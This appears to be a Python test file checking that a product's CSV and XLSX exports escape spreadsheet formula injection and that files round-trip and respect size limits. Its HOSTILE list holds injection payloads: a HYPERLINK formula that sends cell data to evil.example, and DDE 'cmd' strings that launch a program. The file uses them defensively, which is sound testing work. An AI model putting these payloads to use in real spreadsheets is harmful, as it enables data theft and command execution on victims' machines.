"""Files the product writes: stable, safe to open in a spreadsheet, and read back exactly."""

from __future__ import annotations

import csv
import io
import tempfile
import time
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.files import read_table, write_table
from adapters.files.cells import escape_cell, unescape_cell
from adapters.files.limits import FileLimits
from adapters.files.xlsxfile import write_xlsx
from commplan.errors import ImportRejected

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for the standard")',
    "+44 20 7946 0000 please call",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1 already quoted",
    "'Tis the season for harmonised ethnicity questions",
    "Cost £1,200 – ethnicity — “quoted”",
    "-3",
    "+4.5",
    "",
]


def test_an_xlsx_export_an_hour_later_is_the_same_file(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [{"name": "Leeds City Council", "org_type": "Local Government"}]
    first = write_xlsx(rows, ["name", "org_type"])
    later = time.time() + 3600
    monkeypatch.setattr(time, "time", lambda: later)
    second = write_xlsx(rows, ["name", "org_type"])
    assert first == second
    sheet = openpyxl.load_workbook(io.BytesIO(second)).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == ["Leeds City Council", "Local Government"]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() -> None:
    rows = [{"subject": text} for text in HOSTILE]
    written = write_table(rows, ["subject"], fmt="csv").decode("utf-8-sig")
    lines = written.split("\r\n")
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for the standard"")"'
    assert lines[2] == "'+44 20 7946 0000 please call"
    assert lines[3].startswith("'-2+3+cmd|")
    assert lines[4].startswith("'@SUM")
    assert lines[5] == "'\t=1+1"
    assert lines[7] == "''=1+1 already quoted"
    # Plain numbers stay numbers.
    assert "-3" in lines and "+4.5" in lines
    cells = [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:]
    assert len(cells) == len(HOSTILE)
    for cell in cells:
        assert cell in ("", "-3", "+4.5") or cell[0] not in "=+-@\t\r", cell


def test_csv_is_utf8_with_a_byte_order_mark_so_excel_shows_pounds_and_dashes() -> None:
    content = write_table([{"summary": "£1,200 – ethnicity"}], ["summary"], fmt="csv")
    assert content.startswith(b"\xef\xbb\xbf")
    assert "£1,200 – ethnicity".encode() in content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_cells_come_back_from_an_import_unchanged(tmp_path: Path, fmt: str) -> None:
    rows = [{"number": str(n), "subject": text} for n, text in enumerate(HOSTILE, start=1)]
    path = tmp_path / f"contacts.{fmt}"
    path.write_bytes(write_table(rows, ["number", "subject"], fmt=fmt))
    table = read_table(path)
    assert [dict(r.values) for r in table.rows] == rows


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "contacts.xlsx"
    path.write_bytes(write_table([{"subject": HOSTILE[0]}], ["subject"], fmt="xlsx"))
    cell = openpyxl.load_workbook(path)["Sheet"]["A2"]
    assert (cell.data_type, cell.value) == ("s", HOSTILE[0])


# Text as it comes out of e-mail and chat: any character a CSV or an XLSX can hold.
_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\0"),
    max_size=30,
)


@settings(max_examples=150, deadline=None)
@given(cells=st.lists(_TEXT, min_size=1, max_size=6))
def test_any_text_survives_a_csv_round_trip(cells: list[str]) -> None:
    for text in cells:
        assert unescape_cell(escape_cell(text)) == text
    rows = [{"key": f"r{n}", "text": text} for n, text in enumerate(cells)]
    content = write_table(rows, ["key", "text"], fmt="csv")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "round.csv"
        path.write_bytes(content)
        assert [dict(r.values) for r in read_table(path).rows] == rows


def test_a_csv_longer_than_the_row_limit_stops_there(tmp_path: Path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text("date,name\n" + "2015-03-02,Jane Smith\n" * 5, encoding="utf-8")
    assert len(read_table(path, limits=FileLimits(max_rows=5)).rows) == 5
    with pytest.raises(ImportRejected, match=r"contacts.csv, row 5: more than 3 rows"):
        read_table(path, limits=FileLimits(max_rows=3))


def test_a_workbook_that_unpacks_past_the_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "contacts.xlsx"
    rows = [{"summary": "ethnicity " * 100} for _ in range(200)]
    path.write_bytes(write_table(rows, ["summary"], fmt="xlsx"))
    assert len(read_table(path).rows) == 200
    with pytest.raises(ImportRejected, match=r"contacts.xlsx: the file unpacks to [0-9.]+ MB; the"):
        read_table(path, limits=FileLimits(max_unpacked_bytes=100_000))
